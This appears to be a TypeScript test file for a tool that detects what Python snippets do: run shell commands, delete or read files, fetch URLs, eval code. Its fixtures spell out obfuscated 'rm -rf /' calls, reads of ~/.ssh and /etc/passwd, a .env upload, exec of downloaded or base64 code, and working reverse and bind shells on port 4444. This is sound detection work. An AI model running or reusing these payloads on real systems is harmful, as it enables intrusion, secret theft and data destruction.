import { describe, expect, it } from "vitest";
import { tellEffects } from "./tell.ts";

const tell = (code: string, args?: readonly string[]) => tellEffects("python3.12", code, args);

describe("python", () => {
  it.each([
    ["import os; os.system('rm -rf /')", "sh rm -rf /"],
    ["import os as o\no.system('id')", "sh id"],
    ["from os import (path,\n  system as s)\ns('id')", "sh id"],
    ["from os import *\nsystem('id')", "sh id"],
    ["__import__('os').system('i' 'd')", "sh id"],
    ["getattr(__import__('o'+'s'), 'sys'+'tem')('id')", "sh id"],
    ["import sys; sys.modules['os'].system('id')", "sh id"],
    ["import os; vars(os)['system']('id'); ", "sh id"],
    ["import os; os.__dict__['system']('id')", "sh id"],
    ["import importlib as i; i.import_module('os').popen('id')", "sh id"],
    ["globals()['__builtins__'].exec('import os;os.system(\"id\")')", "sh id"],
    ["x = 'r' + 'm'; x += ' -r'; import os; os.system(f'{x}f /')", "sh rm -rf /"],
    ["import os; os.system('/ fr- mr'[::-1])", "sh rm -rf /"],
    ["import os; os.system('%s -%s /' % ('rm', 'rf'))", "sh rm -rf /"],
    ["import os; os.system('{} {b}'.format('rm', b='/'))", "sh rm /"],
    ["import os; os.system(' '.join(['rm', '-rf', '/']))", "sh rm -rf /"],
    ["import os; os.system(chr(105) + chr(0x64))", "sh id"],
    ["import os; os.system(''.join(chr(c ^ 1) for c in [104, 101]))", "sh id"],
    ["import os; os.system(''.join(map(chr, (105, 100))))", "sh id"],
    ["import os; os.system(bytes([105, 100]).decode())", "sh id"],
    ["import os\nfor c in ['a', 'b']: os.system(c)", "sh a", "sh b"],
    ["import os\n[os.system(c) for c in ('a', 'b')]", "sh a", "sh b"],
    ["import os\ndef r(c):\n  os.system(c)\nr('a')\nr('b')", "sh a", "sh b"],
    ["import os; (lambda c: os.system(c))('a')", "sh a"],
    ["import os\nif x:\n  os.system('a')\nelse:\n  os.system('b')", "sh a", "sh b"],
    ["import os\nos.system('''a\nb''')", "sh a\nb"],
    ["import subprocess; subprocess.run(['rm', '-rf', '/'])", "exec rm -rf /"],
    ["import subprocess; subprocess.run('a b', shell=True)", "sh a b"],
    ["import subprocess; subprocess.run(['sh'], input='id')", "exec sh"],
    ["import os; os.execvp('rm', ['rm', '-rf', '/'])", "exec rm -rf /"],
    ["import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '/')", "exec rm /"],
    ["import os; os.remove('a'); os.rmdir('b')", "delete a", "delete b"],
    ["import shutil; shutil.rmtree('/')", "delete all /"],
    ["from pathlib import Path as P; P('a').unlink()", "delete a"],
    ["import shutil; shutil.copy('a', 'b'); shutil.move('c', 'd')", "cp a b", "mv c d"],
    ["import os; os.chmod('a', 0o777); os.chdir('/')", "chmod 777 a", "cd /"],
    ["open('a').read(); open('b', 'w').write('c')", "read a", "write b", "write b: c"],
    ["with open('b', mode='a') as f:\n  f.write('c')", "write b", "write b: c"],
    ["from pathlib import Path\n(Path.home() / '.ssh' / 'x').read_text()", "read ~/.ssh/x"],
    ["import os; open(os.path.join('/etc', 'passwd'))", "read /etc/passwd"],
    ["import sys, subprocess; subprocess.run(sys.argv[1:])", "exec a b"],
    ["import requests; requests.get('http://x.example')", "fetch http://x.example"],
    ["import requests; requests.post('http://x.example', data='a')", "fetch http://x.example a"],
    [
      "import requests; requests.post('u', files={'f': open('.env')})",
      "read .env",
      "fetch u @.env",
    ],
    ["import urllib.request as r; r.urlretrieve('u', 'f')", "download u f"],
    ["import requests; exec(requests.get('u').text)", "fetch u", "eval unknown"],
    ["import base64; exec(base64.b64decode('cHJpbnQoMSk='))", "eval unknown"],
    ["import zlib; exec(zlib.decompress(x))", "eval unknown"],
    ["import pickle; pickle.loads(x)", "eval unknown"],
    ["import ctypes; ctypes.CDLL(None).system(b'id')", "sh id"],
    ["import os; eval(input())", "eval unknown"],
  ])("tells of %s", (code, ...told) => expect(tell(code, ["a", "b"])).toEqual(told));

  it.each([
    "print('os.system(\"rm -rf /\")')",
    "# os.system('rm -rf /')\nprint(1)",
    "'''\nimport os\nos.system('id')\n'''",
    "x = r'\\'; print(x) # '",
    "import re; re.compile('a')",
    "import json, sys; print(json.load(sys.stdin)['x'])",
    "import os; print(os.environ['PATH'], os.getcwd())",
    "df.eval('a + b'); model.eval(); cursor.execute('select 1')",
    "import base64; print(base64.b64decode('eA=='))",
    "import os\ndef f(cmd):\n  os.system(cmd)",
  ])("tells of nothing in %s", (code) => expect(tell(code)).toEqual([]));

  it.each([
    [
      'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",4444));' +
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
      "shell to 192.0.2.1 4444",
    ],
    [
      'import socket,subprocess;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1)\n' +
        "c,a=s.accept()\nsubprocess.call(['/bin/bash','-i'],stdin=c)",
      "shell for 0.0.0.0 4444",
    ],
  ])("tells of a shell on a connection in %s", (code, told) => expect(tell(code)[0]).toBe(told));

  it.each([
    "import socket,subprocess\ns=socket.socket();s.connect(('db',1))\nsubprocess.run(['make','x'])",
    "import socket\ns=socket.socket();s.bind(('',0));print(s.getsockname())",
  ])("tells of no shell in %s", (code) => expect(tell(code).join()).not.toContain("shell"));
});
